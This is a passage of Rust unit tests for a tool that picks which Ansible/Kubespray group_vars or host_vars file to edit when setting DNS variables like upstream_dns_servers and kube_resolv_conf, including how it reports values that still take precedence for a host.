        // group_vars/k8s-cluster/ from before Kubespray named the group k8s_cluster, in an
        // inventory that defines no such group (roles/dynamic_groups @46dbdd39 forms
        // k8s_cluster only): Ansible gives its value to no host, so it is not edited.
        let (dir, inv) = inventory(&[
            (
                "group_vars/all/all.yml",
                "allow_unsupported_distribution_setup: false\n",
            ),
            (
                "group_vars/k8s-cluster/k8s-cluster.yml",
                "upstream_dns_servers: [192.0.2.1]\n",
            ),
        ]);
        let (edits, notes) = changes(&inv, &w);
        assert_eq!(paths(&dir, &edits), ["group_vars/all/all.yml"]);
        assert!(notes.is_empty(), "{notes:#?}");
    }

    /// A key k8s_cluster's file sets, asked by a node and by an etcd-only host: the file the
    /// node's value comes from is edited (group_vars/all would lose to it there), and the
    /// etcd host, whose value that file does not give, is named in a note.
    #[test]
    fn a_group_key_asked_from_inside_and_outside_its_group_goes_to_the_group() {
        let (dir, inv) = inventory(&[
            (
                "hosts.yaml",
                "all:\n  hosts:\n    node1:\n    etcd1:\n  children:\n    kube_node:\n      hosts:\n        node1:\n    etcd:\n      hosts:\n        etcd1:\n    k8s_cluster:\n      children:\n        kube_node:\n",
            ),
            ("group_vars/all/all.yml", "upstream_dns_servers: []\n"),
            (
                "group_vars/k8s_cluster/k8s-cluster.yml",
                "upstream_dns_servers: [192.0.2.1]\n",
            ),
        ]);
        let w = [wanted(
            "upstream_dns_servers",
            "192.0.2.53",
            &["node1", "etcd1"],
        )];
        let (edits, notes) = changes(&inv, &w);
        assert_eq!(
            paths(&dir, &edits),
            ["group_vars/k8s_cluster/k8s-cluster.yml"]
        );
        assert!(format!("{notes:?}").contains("etcd1"), "{notes:#?}");
    }

    /// In a vars directory the file chosen is the one Ansible reads last that sets the
    /// key: subdirectories count, hidden files do not.
    #[test]
    fn a_vars_directory_is_read_as_ansible_reads_it() {
        let files = [
            ("host_vars/node1/main.yml", "ansible_user: ops\n"),
            (
                "host_vars/node1/sub/dns.yml",
                "kube_resolv_conf: /etc/resolv.conf\n",
            ),
            (
                "host_vars/node1/.old.yml",
                "kube_resolv_conf: /etc/old.conf\n",
            ),
        ];
        let (dir, inv) = inventory(&files);
        let w = [wanted(
            "kube_resolv_conf",
            "/etc/dnsfix/resolv.conf",
            &["node1"],
        )];
        assert_eq!(
            paths(&dir, &changes_of(&inv, &w)),
            ["host_vars/node1/sub/dns.yml"]
        );
    }

    /// An existing host_vars directory gets the file there that sets the key, else a new
    /// dnsfix.yml in it.
    #[test]
    fn a_host_vars_directory_is_written_into() {
        let files = [
            ("host_vars/node1/main.yml", "ansible_user: ops\n"),
            (
                "host_vars/node2/main.yml",
                "kube_resolv_conf: /etc/resolv.conf\n",
            ),
        ];
        let (dir, inv) = inventory(&files);
        let w = [
            wanted("kube_resolv_conf", "/etc/dnsfix/resolv.conf", &["node1"]),
            wanted(
                "kube_resolv_conf",
                "/run/systemd/resolve/resolv.conf",
                &["node2"],
            ),
        ];
        assert_eq!(
            paths(&dir, &changes_of(&inv, &w)),
            ["host_vars/node1/dnsfix.yml", "host_vars/node2/main.yml"]
        );
    }

    /// A group-level change a host's own value outranks is made, and that host is told
    /// where the value that still wins is set.
    #[test]
    fn a_value_that_still_wins_after_the_change_is_named() {
        let files = [
            ("group_vars/all.yml", "upstream_dns_servers: []\n"),
            (
                "host_vars/node2.yml",
                "upstream_dns_servers: [192.0.2.99]\n",
            ),
        ];
        let (dir, inv) = inventory(&files);
        let w = [wanted(
            "upstream_dns_servers",
            serde_json::json!(["192.0.2.53"]),
            &["node1", "node2"],
        )];
        let (changes, notes) = changes(&inv, &w);
        assert_eq!(paths(&dir, &changes), ["group_vars/all.yml"]);
        assert!(!notes.contains_key("node1"), "{notes:?}");
        let note = &notes["node2"][0];
        assert!(
            note.starts_with("upstream_dns_servers stays [192.0.2.99] for this host")
                && note.contains(&format!("{}/host_vars/node2.yml", dir.display())),
            "{note}"
        );
    }
}
